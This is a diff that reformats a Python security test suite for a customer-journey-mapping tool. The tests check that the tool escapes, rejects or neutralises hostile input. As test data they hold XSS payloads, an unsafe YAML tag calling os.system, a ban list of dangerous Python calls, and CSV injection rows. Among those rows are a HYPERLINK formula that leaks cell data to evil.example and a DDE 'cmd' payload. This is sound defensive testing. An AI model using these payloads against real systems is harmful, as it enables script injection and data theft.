@@ -34,16 +34,42 @@ from cjm_helpers.store import load_project, project_to_data, save_project
 # --- the code never runs user data -------------------------------------------------------
 
 BANNED_CALLS = {
-    "eval", "exec", "__import__",
-    "pickle.load", "pickle.loads", "pickle.Unpickler", "cPickle.loads", "marshal.load", "marshal.loads",
-    "shelve.open", "dill.load", "dill.loads", "cloudpickle.load", "cloudpickle.loads",
-    "yaml.unsafe_load", "yaml.full_load", "yaml.load_all", "yaml.unsafe_load_all",
-    "os.system", "os.popen", "os.execv", "os.execvp", "os.spawnl", "pd.read_pickle", "pandas.read_pickle",
-    "subprocess.getoutput", "subprocess.getstatusoutput",
+    "eval",
+    "exec",
+    "__import__",
+    "pickle.load",
+    "pickle.loads",
+    "pickle.Unpickler",
+    "cPickle.loads",
+    "marshal.load",
+    "marshal.loads",
+    "shelve.open",
+    "dill.load",
+    "dill.loads",
+    "cloudpickle.load",
+    "cloudpickle.loads",
+    "yaml.unsafe_load",
+    "yaml.full_load",
+    "yaml.load_all",
+    "yaml.unsafe_load_all",
+    "os.system",
+    "os.popen",
+    "os.execv",
+    "os.execvp",
+    "os.spawnl",
+    "pd.read_pickle",
+    "pandas.read_pickle",
+    "subprocess.getoutput",
+    "subprocess.getstatusoutput",
 }
 UNSAFE_LOADERS = {"Loader", "UnsafeLoader", "FullLoader", "CLoader", "CUnsafeLoader", "CFullLoader"}
-SUBPROCESS_CALLS = {"subprocess.run", "subprocess.call", "subprocess.check_call",
-                    "subprocess.check_output", "subprocess.Popen"}
+SUBPROCESS_CALLS = {
+    "subprocess.run",
+    "subprocess.call",
+    "subprocess.check_call",
+    "subprocess.check_output",
+    "subprocess.Popen",
+}
 
 
 def dotted(node: ast.AST) -> str:
@@ -58,11 +84,24 @@ def scan(tree: ast.AST) -> Iterator[tuple[int, str]]:
     """(line, finding) for every unsafe construct in one module."""
     for node in ast.walk(tree):
         if isinstance(node, ast.Import | ast.ImportFrom):
-            names = [a.name for a in node.names] + ([node.module] if isinstance(node, ast.ImportFrom) else [])
+            names = [a.name for a in node.names] + (
+                [node.module] if isinstance(node, ast.ImportFrom) else []
+            )
             for name in names:
-                if name and name.split(".")[0] in {"pickle", "cPickle", "marshal", "shelve", "dill", "cloudpickle"}:
+                if name and name.split(".")[0] in {
+                    "pickle",
+                    "cPickle",
+                    "marshal",
+                    "shelve",
+                    "dill",
+                    "cloudpickle",
+                }:
                     yield node.lineno, f"imports {name}"
-        if isinstance(node, ast.Attribute) and node.attr in UNSAFE_LOADERS and dotted(node.value) == "yaml":
+        if (
+            isinstance(node, ast.Attribute)
+            and node.attr in UNSAFE_LOADERS
+            and dotted(node.value) == "yaml"
+        ):
             yield node.lineno, f"uses yaml.{node.attr}"
         if not isinstance(node, ast.Call):
             continue
@@ -70,14 +109,25 @@ def scan(tree: ast.AST) -> Iterator[tuple[int, str]]:
         if name in BANNED_CALLS:
             yield node.lineno, f"calls {name}"
         if name == "yaml.load":
-            loader = next((k.value for k in node.keywords if k.arg == "Loader"),
-                          node.args[1] if len(node.args) > 1 else None)
+            loader = next(
+                (k.value for k in node.keywords if k.arg == "Loader"),
+                node.args[1] if len(node.args) > 1 else None,
+            )
             if loader is None or dotted(loader).split(".")[-1] not in {"SafeLoader", "CSafeLoader"}:
                 yield node.lineno, "calls yaml.load without the safe loader"
         for keyword in node.keywords:
-            if keyword.arg == "shell" and not (isinstance(keyword.value, ast.Constant) and keyword.value.value is False):
-                yield node.lineno, f"calls {name or 'something'} with shell={ast.unparse(keyword.value)}"
-        if name in SUBPROCESS_CALLS and node.args and isinstance(node.args[0], ast.Constant | ast.JoinedStr | ast.BinOp):
+            if keyword.arg == "shell" and not (
+                isinstance(keyword.value, ast.Constant) and keyword.value.value is False
+            ):
+                yield (
+                    node.lineno,
+                    f"calls {name or 'something'} with shell={ast.unparse(keyword.value)}",
+                )
+        if (
+            name in SUBPROCESS_CALLS
+            and node.args
+            and isinstance(node.args[0], ast.Constant | ast.JoinedStr | ast.BinOp)
+        ):
             yield node.lineno, f"calls {name} with a command string instead of an argument list"
 
 
@@ -108,7 +158,10 @@ def test_package_never_runs_user_data() -> None:
 def test_yaml_is_parsed_with_the_safe_loader() -> None:
     from cjm_helpers import yamlio
 
-    assert issubclass(yamlio._DateSafeLoader, (__import__("yaml").SafeLoader, getattr(__import__("yaml"), "CSafeLoader", object)))
+    assert issubclass(
+        yamlio._DateSafeLoader,
+        (__import__("yaml").SafeLoader, getattr(__import__("yaml"), "CSafeLoader", object)),
+    )
     with pytest.raises(yamlio.YamlError, match="tags such as"):
         yamlio.parse_yaml("!!python/object/apply:os.system ['echo unsafe']")
 
@@ -122,15 +175,27 @@ def test_lab_command_is_loopback_on_one_port_without_the_token() -> None:
     assert "--ServerApp.ip=127.0.0.1" in cmd
     assert "--ServerApp.port=8899" in cmd and "--ServerApp.port_retries=0" in cmd
     joined = " ".join(cmd)
-    assert "token" not in joined.lower(), "the token is never on a command line (every user can read it)"
-    for risky in ("0.0.0.0", "ip=*", "disable_check_xsrf", "allow_origin=*", "password=", "allow_remote_access=True"):
+    assert "token" not in joined.lower(), (
+        "the token is never on a command line (every user can read it)"
+    )
+    for risky in (
+        "0.0.0.0",
+        "ip=*",
+        "disable_check_xsrf",
+        "allow_origin=*",
+        "password=",
+        "allow_remote_access=True",
+    ):
         assert risky not in joined
 
 
-def test_cjm_lab_starts_with_a_fresh_long_token(sample_copy: Path, monkeypatch: pytest.MonkeyPatch, capsys) -> None:
+def test_cjm_lab_starts_with_a_fresh_long_token(
+    sample_copy: Path, monkeypatch: pytest.MonkeyPatch, capsys
+) -> None:
     calls: list[tuple[list[str], dict[str, str]]] = []
-    monkeypatch.setattr(project_commands.subprocess, "call",
-                        lambda cmd, env: calls.append((cmd, env)) or 0)
+    monkeypatch.setattr(
+        project_commands.subprocess, "call", lambda cmd, env: calls.append((cmd, env)) or 0
+    )
     monkeypatch.setenv("JUPYTER_TOKEN_FILE", "/somewhere/else")
     port = _free_port()
     assert main(["lab", str(sample_copy), "--no-browser", "--port", str(port)]) == 0
@@ -157,7 +222,9 @@ def _free_port() -> int:
         return probe.getsockname()[1]
 
 
-def test_cjm_lab_refuses_a_busy_port(sample_copy: Path, monkeypatch: pytest.MonkeyPatch, capsys) -> None:
+def test_cjm_lab_refuses_a_busy_port(
+    sample_copy: Path, monkeypatch: pytest.MonkeyPatch, capsys
+) -> None:
     """Whoever holds the port would otherwise get the printed address with the token."""
     import socket
 
@@ -172,7 +239,8 @@ def test_cjm_lab_refuses_a_busy_port(sample_copy: Path, monkeypatch: pytest.Monk
     assert err.strip() == (
         f"cjm lab: port {port} on 127.0.0.1 is already in use (perhaps another JupyterLab); JupyterLab was not "
         "started, so the address with its token goes to nobody else. Close the other program or choose a free "
-        f"port, e.g. --port {port + 1}")
+        f"port, e.g. --port {port + 1}"
+    )
     assert "token=" not in out and started == []
     assert main(["lab", str(sample_copy), "--no-browser", "--port", "0"]) == 1
     assert "--port 0 is not a port; choose one between 1024 and 65535" in capsys.readouterr().err
@@ -184,7 +252,9 @@ def _command_lines() -> list[str]:
     for entry in Path("/proc").iterdir():
         if entry.name.isdigit():
             try:
-                found.append((entry / "cmdline").read_bytes().replace(b"\0", b" ").decode("utf-8", "replace"))
+                found.append(
+                    (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
+                )
             except OSError:
                 continue
     return found
@@ -201,12 +271,22 @@ def test_lab_token_is_in_no_command_line(sample_copy: Path, tmp_path: Path) -> N
     import urllib.request
 
     port = _free_port()
-    env = dict(os.environ, JUPYTER_CONFIG_DIR=str(tmp_path / "cfg"), JUPYTER_DATA_DIR=str(tmp_path / "data"),
-               JUPYTER_RUNTIME_DIR=str(tmp_path / "rt"), HOME=str(tmp_path))
+    env = dict(
+        os.environ,
+        JUPYTER_CONFIG_DIR=str(tmp_path / "cfg"),
+        JUPYTER_DATA_DIR=str(tmp_path / "data"),
+        JUPYTER_RUNTIME_DIR=str(tmp_path / "rt"),
+        HOME=str(tmp_path),
+    )
     cjm = Path(sys.executable).with_name("cjm")
-    proc = subprocess.Popen([str(cjm), "lab", str(sample_copy), "--no-browser", "--port", str(port)],
-                            stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, env=env,
-                            start_new_session=True)
+    proc = subprocess.Popen(
+        [str(cjm), "lab", str(sample_copy), "--no-browser", "--port", str(port)],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.DEVNULL,
+        text=True,
+        env=env,
+        start_new_session=True,
+    )
     try:
         token = ""
         for line in proc.stdout:  # type: ignore[union-attr]
@@ -218,7 +298,9 @@ def test_lab_token_is_in_no_command_line(sample_copy: Path, tmp_path: Path) -> N
         status = None
         while time.monotonic() < deadline and status is None:
             try:
-                with urllib.request.urlopen(f"http://127.0.0.1:{port}/api/status?token={token}", timeout=5) as r:
+                with urllib.request.urlopen(
+                    f"http://127.0.0.1:{port}/api/status?token={token}", timeout=5
+                ) as r:
                     status = r.status
             except OSError:
                 time.sleep(0.5)
@@ -288,10 +370,21 @@ def filled_project(payload: str) -> Project:
 def test_payload_reaches_the_fields_that_matter() -> None:
     paths = {".".join(str(p) for p in path) for path in free_text_paths()}
     assert len(paths) > 300
-    for expected in ("name", "description", "personas.0.name", "personas.0.quote", "stages.0.name",
-                     "touchpoints.0.name", "journeys.0.name", "journeys.0.stages.awareness.actions.0.text",
-                     "journeys.0.stages.purchase.pain_points.0.text", "opportunities.0.title",
-                     "kpis.0.name", "objectives.business_question", "objectives.team.0.name"):
+    for expected in (
+        "name",
+        "description",
+        "personas.0.name",
+        "personas.0.quote",
+        "stages.0.name",
+        "touchpoints.0.name",
+        "journeys.0.name",
+        "journeys.0.stages.awareness.actions.0.text",
+        "journeys.0.stages.purchase.pain_points.0.text",
+        "opportunities.0.title",
+        "kpis.0.name",
+        "objectives.business_question",
+        "objectives.team.0.name",
+    ):
         assert expected in paths
 
 
@@ -300,7 +393,7 @@ HTML_PAYLOADS = [
     '"><img src=x onerror=alert(2)>',
     "' onmouseover='alert(3)' data-x='",
     "</style><script>alert(4)</script><style>",
-    "<svg/onload=alert(5)><a href=\"javascript:alert(6)\">link</a>",
+    '<svg/onload=alert(5)><a href="javascript:alert(6)">link</a>',
     "]]></text><script>alert(7)</script><text>",
     "<!-- {0} {journey} %s %(name)s -->",
 ]
@@ -373,8 +466,16 @@ def _renderers() -> dict[str, Callable[[Project], str]]:
 
 
 RENDERERS = list(_renderers())
-VISIBLE = {"map-fragment", "map-future-page", "compare-page", "report", "objective-card", "persona-cards", "diff-page",
-           "form-cards"}
+VISIBLE = {
+    "map-fragment",
+    "map-future-page",
+    "compare-page",
+    "report",
+    "objective-card",
+    "persona-cards",
+    "diff-page",
+    "form-cards",
+}
 
 
 @cache
@@ -382,7 +483,9 @@ def clean_markup(renderer: str) -> Markup:
     return Markup(_renderers()[renderer](load_project(SAMPLE_PROJECT)))
 
 
-@pytest.mark.parametrize("payload", HTML_PAYLOADS, ids=[f"payload{i}" for i in range(len(HTML_PAYLOADS))])
+@pytest.mark.parametrize(
+    "payload", HTML_PAYLOADS, ids=[f"payload{i}" for i in range(len(HTML_PAYLOADS))]
+)
 @pytest.mark.parametrize("renderer", RENDERERS)
 def test_html_output_shows_payloads_as_text(renderer: str, payload: str) -> None:
     project = filled_project(payload)
@@ -396,8 +499,9 @@ def test_html_output_shows_payloads_as_text(renderer: str, payload: str) -> None
     links = [value for name, value in seen.attrs if value.strip().lower().startswith("javascript:")]
     assert links == []
     if renderer in VISIBLE:
-        assert payload.strip() in "".join(seen.text) or payload in " ".join(v for _, v in seen.attrs), \
-            "the text is shown, escaped, not dropped"
+        assert payload.strip() in "".join(seen.text) or payload in " ".join(
+            v for _, v in seen.attrs
+        ), "the text is shown, escaped, not dropped"
 
 
 @pytest.mark.parametrize("payload", HTML_PAYLOADS[:3], ids=["payload0", "payload1", "payload2"])
@@ -461,19 +565,23 @@ def test_spreadsheet_exports_neutralise_formulas(fmt: str, payload: str, tmp_pat
         for sheet in book.worksheets:
             for row in sheet.iter_rows():
                 for cell in row:
-                    assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
+                    assert cell.data_type != "f", (
+                        f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
+                    )
                     if isinstance(cell.value, str):
                         cells.append(cell.value)
     else:
         cells = _csv_cells(out.read_bytes())
     _assert_inert(cells, f"{fmt} export")
     shown = payload.strip()
-    assert any(shown in c.replace(";'", ";") for c in cells), "the text is kept (with an apostrophe), not dropped"
+    assert any(shown in c.replace(";'", ";") for c in cells), (
+        "the text is kept (with an apostrophe), not dropped"
+    )
 
 
 # --- the data overlay: event names and channels come straight from the user's log -----------
 
-INJECTED_LOG = '''user_id,timestamp,event,channel
+INJECTED_LOG = """user_id,timestamp,event,channel
 u1,2026-10-01 08:00:00,"=HYPERLINK(""http://evil.example/?x=""&A1,""x"")",app
 u1,2026-10-01 08:01:00,<script>alert(1)</script>,"<img src=x onerror=alert(2)>"
 u1,2026-10-01 08:02:00,payment_success,app
@@ -481,14 +589,27 @@ u2,2026-10-01 09:00:00,"@SUM(1+1)*cmd|' /C calc'!A0",web
 u2,2026-10-01 09:01:00,"=HYPERLINK(""http://evil.example/?x=""&A1,""x"")",web
 u3,2026-10-01 10:00:00,+1+1,"-2+3"
 u3,2026-10-01 10:05:00,payment_success,app
-'''
+"""
 
 
 def test_overlay_outputs_keep_user_event_names_inert(tmp_path: Path) -> None:
     log = tmp_path / "events.csv"
     log.write_text(INJECTED_LOG, encoding="utf-8")
     out = tmp_path / "overlay"
-    assert main(["overlay", str(log), "--project", str(SAMPLE_PROJECT), "--out", str(out), "--no-progress"]) == 0
+    assert (
+        main(
+            [
+                "overlay",
+                str(log),
+                "--project",
+                str(SAMPLE_PROJECT),
+                "--out",
+                str(out),
+                "--no-progress",
+            ]
+        )
+        == 0
+    )
 
     tables = sorted(out.glob("*.csv"))
     assert len(tables) >= 5
@@ -500,7 +621,9 @@ def test_overlay_outputs_keep_user_event_names_inert(tmp_path: Path) -> None:
     assert page.scripts == 0
     assert [name for name, _ in page.attrs if name.startswith("on")] == []
     sources = [value for name, value in page.attrs if name == "src"]
-    assert sources and all(value.startswith("data:image/") for value in sources), "only the embedded figures"
+    assert sources and all(value.startswith("data:image/") for value in sources), (
+        "only the embedded figures"
+    )
 
 
 # --- a history folder that is not ours -----------------------------------------------------
@@ -513,7 +636,9 @@ def test_save_refuses_a_history_folder_that_is_a_symlink(sample_copy: Path, tmp_
 
     victim = tmp_path / "someone-elses-folder"
     victim.mkdir()
-    names = [f"2026010{i % 9 + 1}T{i:06d}000000Z.yaml" for i in range(60)] + [f"notes-{i}.yaml" for i in range(5)]
+    names = [f"2026010{i % 9 + 1}T{i:06d}000000Z.yaml" for i in range(60)] + [
+        f"notes-{i}.yaml" for i in range(5)
+    ]
     for name in names:
         (victim / name).write_text("keep: me\n", encoding="utf-8")
     history_dir(sample_copy).symlink_to(victim)
@@ -525,8 +650,11 @@ def test_save_refuses_a_history_folder_that_is_a_symlink(sample_copy: Path, tmp_
     assert str(info.value) == (
         f"{history_dir(sample_copy)}: the history folder of {sample_copy} is a symbolic link to another place; "
         "saving prunes old versions there and could delete files that are not this project's. Nothing was "
-        "saved: replace the link with a real folder (or remove it), then save again")
-    assert sorted(p.name for p in victim.iterdir()) == sorted(names), "no file of the other folder was deleted"
+        "saved: replace the link with a real folder (or remove it), then save again"
+    )
+    assert sorted(p.name for p in victim.iterdir()) == sorted(names), (
+        "no file of the other folder was deleted"
+    )
     assert sample_copy.read_bytes() == before
 
 
@@ -541,7 +669,9 @@ def test_history_pruning_only_removes_saved_versions(sample_copy: Path) -> None:
     for n in range(store.HISTORY_KEEP + 3):
         save_project(project.model_copy(update={"name": f"Version {n}"}), sample_copy)
     assert (folder / "my-notes.yaml").read_text(encoding="utf-8") == "mine: true\n"
-    assert len([p for p in folder.glob("*.yaml") if p.name != "my-notes.yaml"]) == store.HISTORY_KEEP
+    assert (
+        len([p for p in folder.glob("*.yaml") if p.name != "my-notes.yaml"]) == store.HISTORY_KEEP
+    )
 
 
 # --- no command writes over its inputs -------------------------------------------------------
@@ -553,17 +683,37 @@ def test_overlay_knows_every_file_it_writes(tmp_path: Path) -> None:
     from cjm_helpers.paths import SAMPLE_EVENTS, SAMPLE_SURVEY, SAMPLE_TICKETS
 
     out = tmp_path / "overlay"
-    assert main(["overlay", str(SAMPLE_EVENTS), "--survey", str(SAMPLE_SURVEY), "--tickets", str(SAMPLE_TICKETS),
-                 "--project", str(SAMPLE_PROJECT), "--out", str(out), "--no-progress"]) == 0
+    assert (
+        main(
+            [
+                "overlay",
+                str(SAMPLE_EVENTS),
+                "--survey",
+                str(SAMPLE_SURVEY),
+                "--tickets",
+                str(SAMPLE_TICKETS),
+                "--project",
+                str(SAMPLE_PROJECT),
+                "--out",
+                str(out),
+                "--no-progress",
+            ]
+        )
+        == 0
+    )
     written = {p.name for p in out.iterdir()}
-    assert written and written <= {p.name for p in overlay_outputs(out)}, written - {p.name for p in overlay_outputs(out)}
+    assert written and written <= {p.name for p in overlay_outputs(out)}, written - {
+        p.name for p in overlay_outputs(out)
+    }
     assert {"tickets.csv", "segments.csv", "emotion_curve.csv"} <= written
 
 
 # --- cjm run --out removes only what an earlier run wrote ---------------------------------------
 
 
-def test_run_into_an_earlier_runs_folder_keeps_the_users_own_files(sample_copy: Path, tmp_path: Path) -> None:
+def test_run_into_an_earlier_runs_folder_keeps_the_users_own_files(
+    sample_copy: Path, tmp_path: Path
+) -> None:
     """The second run replaces the first run's files and leaves the user's notebook and page alone."""
     from run_fakes import fake_notebook
 
@@ -574,8 +724,11 @@ def test_run_into_an_earlier_runs_folder_keeps_the_users_own_files(sample_copy: 
     args = ["run", str(sample_copy), "--out", str(out), "--notebooks", str(nbs), "--no-progress"]
     assert main(args) == 0
     assert (out / ".cjm-run.json").is_file() and (out / "notebooks" / "02_personas.ipynb").is_file()
-    mine = {out / "notebooks" / "01_my_own_analysis.ipynb": b"{}", out / "html" / "my_page.html": b"<p>mine</p>",
-            out / "notes.txt": b"keep"}
+    mine = {
+        out / "notebooks" / "01_my_own_analysis.ipynb": b"{}",
+        out / "html" / "my_page.html": b"<p>mine</p>",
+        out / "notes.txt": b"keep",
+    }
     for path, data in mine.items():
         path.write_bytes(data)
     (nbs / "02_personas.ipynb").unlink()  # the second run makes fewer notebooks
@@ -583,7 +736,9 @@ def test_run_into_an_earlier_runs_folder_keeps_the_users_own_files(sample_copy: 
     assert main(args) == 0
     for path, data in mine.items():
         assert path.read_bytes() == data, f"{path.name} was not the run's to remove"
-    assert not (out / "notebooks" / "02_personas.ipynb").exists(), "the earlier run's own files are replaced"
+    assert not (out / "notebooks" / "02_personas.ipynb").exists(), (
+        "the earlier run's own files are replaced"
+    )
     assert (out / "notebooks" / "01_objectives.ipynb").is_file() and (out / "report.html").is_file()
 
 
@@ -603,8 +758,19 @@ def _clip_by_trimming(text: str, width_in: float, size: float, bold: bool) -> st
     return text.rstrip() + "…"
 
 
-@pytest.mark.parametrize("text", ["", "short", "Rina wants  to pay\\nat the counter", "W" * 80, "żółć " * 30,
-                                  "a " * 200, "漢字" * 40, "x" * 3 + " " * 50 + "y"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "",
+        "short",
+        "Rina wants  to pay\\nat the counter",
+        "W" * 80,
+        "żółć " * 30,
+        "a " * 200,
+        "漢字" * 40,
+        "x" * 3 + " " * 50 + "y",
+    ],
+)
 @pytest.mark.parametrize("width", [0.05, 0.8, 2.5])
 def test_clip_gives_the_same_line_as_trimming(text: str, width: float) -> None:
     from cjm_helpers.mapping.figure import clip
@@ -646,7 +812,9 @@ def test_mermaid_never_writes_a_comment_from_user_text(percent: str) -> None:
     journey["stages"][stage]["actions"][0]["text"] = f"Pays {percent} cash"
     text = journey_mermaid(Project.model_validate(data), journey["id"])
     assert "%%" not in text
-    assert any(line.strip().startswith("Pays ") and "cash: " in line for line in text.splitlines()), text
+    assert any(
+        line.strip().startswith("Pays ") and "cash: " in line for line in text.splitlines()
+    ), text
 
 
 # --- offline pages rewrite real attributes only ------------------------------------------------------
@@ -656,15 +824,22 @@ def test_strip_external_leaves_text_that_looks_like_an_attribute() -> None:
     """User text such as 'src=https://…' is shown as written; only real attributes lose their address."""
     from cjm_helpers.export import external_references, strip_external
 
-    page = ('<html><head><link rel="stylesheet" href="https://cdn.example/x.css"></head><body>'
-            '<p>Our old form said src=https://shop.example/a.png and href="http://x.example"</p>'
-            '<img title="copied from src=https://shop.example/b.png" src="https://cdn.example/b.png" alt="b">'
-            '<a href="#top" style="background: url(http://t.example/p.gif)">top</a>'
-            '<pre>style="url(http://t.example/q.gif)"</pre></body></html>')
+    page = (
+        '<html><head><link rel="stylesheet" href="https://cdn.example/x.css"></head><body>'
+        '<p>Our old form said src=https://shop.example/a.png and href="http://x.example"</p>'
+        '<img title="copied from src=https://shop.example/b.png" src="https://cdn.example/b.png" alt="b">'
+        '<a href="#top" style="background: url(http://t.example/p.gif)">top</a>'
+        '<pre>style="url(http://t.example/q.gif)"</pre></body></html>'
+    )
     out = strip_external(page)
     assert external_references(out) == []
-    assert "<p>Our old form said src=https://shop.example/a.png and href=\"http://x.example\"</p>" in out
-    assert '<img title="copied from src=https://shop.example/b.png" data-cjm-offline="1" alt="b">' in out
+    assert (
+        '<p>Our old form said src=https://shop.example/a.png and href="http://x.example"</p>' in out
+    )
+    assert (
+        '<img title="copied from src=https://shop.example/b.png" data-cjm-offline="1" alt="b">'
+        in out
+    )
     assert '<a href="#top" style="background: none">top</a>' in out
     assert '<pre>style="url(http://t.example/q.gif)"</pre>' in out
     assert '<link rel="stylesheet" data-cjm-offline="1">' in out
@@ -680,7 +855,9 @@ def test_cjm_diff_never_prints_escape_codes(sample_copy: Path, tmp_path: Path, c
     """Names from a project reach the terminal with every control character made visible."""
     data = project_to_data(load_project(sample_copy))
     data["personas"].append({**data["personas"][0], "id": "twin", "name": "Rina" + ESCAPES})
-    data["touchpoints"].append({**data["touchpoints"][0], "id": "kiosk", "name": "Kiosk\nreview: done" + ESCAPES})
+    data["touchpoints"].append(
+        {**data["touchpoints"][0], "id": "kiosk", "name": "Kiosk\nreview: done" + ESCAPES}
+    )
     newer = tmp_path / "newer.cjm.yaml"
     save_project(Project.model_validate(data), newer)
 
@@ -743,12 +920,31 @@ def test_overlay_plots_draw_dollar_names_as_typed(tmp_path: Path) -> None:
     events.write_text("\n".join(lines[:400]) + "\n", encoding="utf-8")
     survey = tmp_path / "survey.csv"
     rows = SAMPLE_SURVEY.read_text(encoding="utf-8").splitlines()
-    survey.write_text("\n".join([rows[0], *[r.replace("Commuting office worker", MATH) for r in rows[1:]]]) + "\n",
-                      encoding="utf-8")
+    survey.write_text(
+        "\n".join([rows[0], *[r.replace("Commuting office worker", MATH) for r in rows[1:]]])
+        + "\n",
+        encoding="utf-8",
+    )
     assert MATH in survey.read_text(encoding="utf-8")
     out = tmp_path / "overlay"
-    assert main(["overlay", str(events), "--survey", str(survey), "--project", str(SAMPLE_PROJECT),
-                 "--funnel", f"app_open,{MATH}", "--out", str(out), "--no-progress"]) == 0
+    assert (
+        main(
+            [
+                "overlay",
+                str(events),
+                "--survey",
+                str(survey),
+                "--project",
+                str(SAMPLE_PROJECT),
+                "--funnel",
+                f"app_open,{MATH}",
+                "--out",
+                str(out),
+                "--no-progress",
+            ]
+        )
+        == 0
+    )
     assert (out / "segments.png").is_file() and (out / "funnel.png").is_file()
 
 
@@ -763,8 +959,10 @@ def test_save_refuses_a_history_folder_that_is_a_file(sample_copy: Path) -> None
     assert sample_copy.read_bytes() == before
 
 
-@pytest.mark.skipif(not hasattr(__import__("os"), "geteuid") or __import__("os").geteuid() != 0,
-                    reason="giving a folder to another user needs root (CI runs as root)")
+@pytest.mark.skipif(
+    not hasattr(__import__("os"), "geteuid") or __import__("os").geteuid() != 0,
+    reason="giving a folder to another user needs root (CI runs as root)",
+)
 def test_save_refuses_another_users_history_folder(sample_copy: Path) -> None:
     import os
 
